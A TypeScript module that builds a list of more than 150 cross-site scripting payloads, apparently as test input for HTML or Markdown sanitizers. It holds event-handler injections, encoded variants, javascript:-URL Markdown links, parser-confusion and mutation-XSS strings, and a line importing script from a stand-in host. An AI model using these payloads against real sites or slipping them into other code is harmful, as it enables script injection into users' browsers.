import { xssPayloads } from "./xss-payloads.ts";

/** Elements that run a handler without being touched, each with those that it knows. */
const selfStarting: readonly [element: string, handlers: readonly string[]][] = [
  ["img src=x", ["onerror", "ONERROR", "onerror\n", "onerror/"]],
  ["svg", ["onload", "onbegin", "onfocusin"]],
  ["svg><animate attributeName=x dur=1s", ["onbegin", "onend", "onrepeat"]],
  ["svg><set attributeName=x", ["onbegin"]],
  ["video src=x autoplay", ["onerror", "onloadstart", "onplay"]],
  ["audio src=x autoplay", ["onerror", "onloadstart"]],
  ["video><source src=x", ["onerror"]],
  ["iframe", ["onload"]],
  ["body", ["onload", "onpageshow", "onfocus", "onhashchange"]],
  ["marquee", ["onstart", "onfinish", "onbounce"]],
  ["details open", ["ontoggle"]],
  ["dialog open", ["onfocus", "oncancel"]],
  ["input autofocus", ["onfocus", "onblur"]],
  ["select autofocus", ["onfocus"]],
  ["textarea autofocus", ["onfocus"]],
  ["button autofocus", ["onfocus"]],
  ["a href=# autofocus tabindex=1", ["onfocus", "onfocusin"]],
  ["style", ["onload"]],
  ["link rel=stylesheet href=//xss.invalid/a.css", ["onload", "onerror"]],
  ["object data=x", ["onerror", "onload"]],
  ["div style=animation-name:x", ["onanimationstart", "onwebkitanimationend"]],
  ["div", ["onmouseover", "onpointerenter", "onwheel", "oncontentvisibilityautostatechange"]],
];

const encoders: readonly ((text: string) => string)[] = [
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (text) => text.replaceAll(/[<>"']/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll(/[<>"']/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"),
];
const encoded = ["<script>alert('e')</script>", "<img src=x onerror=alert('e')>", "<svg/onload=alert('e')>"];

/** What Markdown may be led to write. */
const markdown: readonly string[] = [
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\tscript:alert(2))",
  "[a](&#106;avascript:alert(3))",
  "[a](javascript&colon;alert(4))",
  "[a](vbscript:alert(5))",
  "[a](data:text/html,<script>alert(6)</script>)",
  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==)",
  "[a](<javascript:alert(8)>)",
  '[a](x "onmouseover=alert(9)")',
  '[a](x "\\" onmouseover=alert(10) x=\\"")',
  "![a](javascript:alert(11))",
  '![a"onerror="alert(12)](x)',
  "![a](x 'onerror=alert(13)')",
  "![a][b] [b]: //xss.invalid/14.png",
  "<javascript:alert(15)>",
  "[a]: javascript:alert(16)",
  "`<img src=x onerror=alert(17)>`",
  "```<script>alert(18)</script>```",
  "**<svg onload=alert(19)>**",
  "> <script>alert(20)</script>",
  "| <img src=x onerror=alert(21)> | x |",
  "[<img src=x onerror=alert(22)>](x)",
  '[a](https://x.invalid" onclick="alert(23))',
  'https://link.invalid/"onmouseover=alert(24)',
  '<a href="javascript&#x3a;alert(25)">x</a>',
  "<a href=' &#14; javascript:alert(26)'>x</a>",
  "<a id=x name=y target=_blank rel=opener href=//xss.invalid/27>x</a>",
  "<div data-x='{{alert(28)}}' class=fixed>x</div>",
];

/** What a parser may trip over. */
const broken: readonly string[] = [
  "<img src=x onerror=alert(1)",
  "<<img src=x onerror=alert(2)>>",
  "<scr<script>ipt>alert(3)</scr</script>ipt>",
  "<script\u2028>alert(4)</script>",
  "<script/x>alert(5)</script>",
  "<script>alert(6)//",
  "<svg><style><img src=x onerror=alert(7)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(8)>">',
  '<math><mi//xlink:href="data:x,<script>alert(9)</script>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(10)>",
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(11)>">',
  '<noembed><img title="</noembed><img src onerror=alert(12)>"></noembed>',
  '<xmp><img title="</xmp><img src onerror=alert(13)>"></xmp>',
  "<plaintext><script>alert(14)</script>",
  "<!DOCTYPE x [<!ENTITY y '<script>alert(15)</script>'>]>&y;",
  "<?xml-stylesheet href=javascript:alert(16)?>",
  "<![CDATA[<script>alert(17)</script>]]>",
  "<x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(18)</x:script>",
  "--!><img src=x onerror=alert(19)>",
  "</template><img src=x onerror=alert(20)>",
  "</style><img src=x onerror=alert(21)>",
  '\\"-alert(22)}//',
  "';alert(23)//",
  "</script><script type=module>import('//xss.invalid/24.js')</script>",
  "<template shadowrootmode=open><script>alert(25)</script></template>",
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  "<iframe src=//xss.invalid/27></iframe>",
  "<portal src=//xss.invalid/28>",
  "<frameset onload=alert(29)>",
  "<isindex type=image src=x onerror=alert(30)>",
];

/** At least 150 of them: the shorter list, and what is known to get past careless filters. */
export const manyXssPayloads: readonly string[] = [
  ...xssPayloads,
  ...selfStarting.flatMap(([element, handlers]) =>
    handlers.map((handler) => `<${element} ${handler}=alert(1)>`),
  ),
  ...encoded.flatMap((text) => encoders.map((encode) => encode(text))),
  ...markdown,
  ...broken,
];

/** All of them in as few texts as hold them, each at most `length` characters long. */
export function textsOfPayloads(length: number, between = " "): string[] {
  const texts: string[] = [];
  for (const payload of manyXssPayloads) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + between.length + payload.length <= length)
      texts[texts.length - 1] = last + between + payload;
    else texts.push(payload);
  }
  return texts;
}
